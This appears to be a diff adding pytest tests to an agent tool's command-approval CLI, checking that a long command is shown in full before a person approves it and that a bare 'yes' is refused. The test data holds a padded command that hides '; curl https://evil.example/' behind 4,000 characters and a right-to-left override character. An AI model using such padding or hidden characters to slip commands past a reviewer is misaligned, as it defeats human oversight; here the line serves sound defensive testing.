@@ -3,7 +3,18 @@
 from collections.abc import Callable
 from typing import Any
 
-from support.programs.cli_server import Call, wait_for
+import pytest
+from support.programs.cli_server import Call, Running, wait_for
+from support.stage import make
+
+from backburner.core import transitions
+from backburner.core.ids import derive_question_id, new_conversation_id
+from backburner.core.question import Purpose, QuestionType
+from backburner.core.schedule import Immediate
+from backburner.core.transitions import Brief
+from backburner.ports import Tx
+
+LINE = "echo " + "a" * 4_000 + "; curl https://evil.example/\u202e"
 
 
 def test_a_question_is_listed_and_answered_once(ask: Callable[..., Any], talk: Call) -> None:
@@ -26,3 +37,48 @@ def test_a_question_is_listed_and_answered_once(ask: Callable[..., Any], talk: C
     assert (answered.code, answered.out) == (0, ["Answered."])
     assert late.code == 4
     assert open_questions() == []
+
+
+@pytest.fixture
+def approval(running: Running) -> str:
+    """Have work ask whether it may run a long command, and give the id of the question."""
+    question_id = derive_question_id(running.user)
+    call = {"server": "s", "tool": "run_command", "definition": "d", "arguments": {"command": LINE}}
+
+    def work(tx: Tx) -> None:
+        brief = Brief(title="Work", prompt="Do it.", schedule=Immediate())
+        task = transitions.start_task(new_conversation_id(), running.user, brief, now=tx.now)
+        asked = make.question(
+            id=question_id,
+            purpose=Purpose.APPROVAL,
+            type=QuestionType.CHOICE,
+            prompt="May I do this?",
+            options=("yes", "no", "always here"),
+            binds_to={"calls": [{**call, "digest": "x", "words": None, "whole": False}]},
+        )
+        tx.conversations.add(task)
+        tx.conversations.save(transitions.ask_owner(task.conversation, asked))
+
+    running.transact(work)
+    return question_id
+
+
+def test_the_whole_call_is_shown_before_it_is_approved(
+    approval: str, talk: Call, ask: Callable[..., Any]
+) -> None:
+    shown = "\n".join(talk("questions", approval[:12]).out)
+    assert "a" * 4_000 in shown
+    assert "https://evil.example/\\u202e" in shown
+    assert "\u202e" not in "\n".join(talk("questions", approval, "--json").out)
+    assert ask("questions", approval)["binds_to"]["calls"][0]["arguments"] == {"command": LINE}
+
+    # Nobody is there to be asked.
+    refused = talk("answer", approval, "yes")
+    assert refused.code == 2
+    assert "--yes" in refused.err[0]
+    assert ask("questions", approval)["id"] == approval
+    assert talk("answer", approval, "yes", "--yes").out == ["Answered."]
+
+
+def test_a_no_to_an_approval_needs_no_second_word(approval: str, talk: Call) -> None:
+    assert talk("answer", approval, "no").out == ["Answered."]
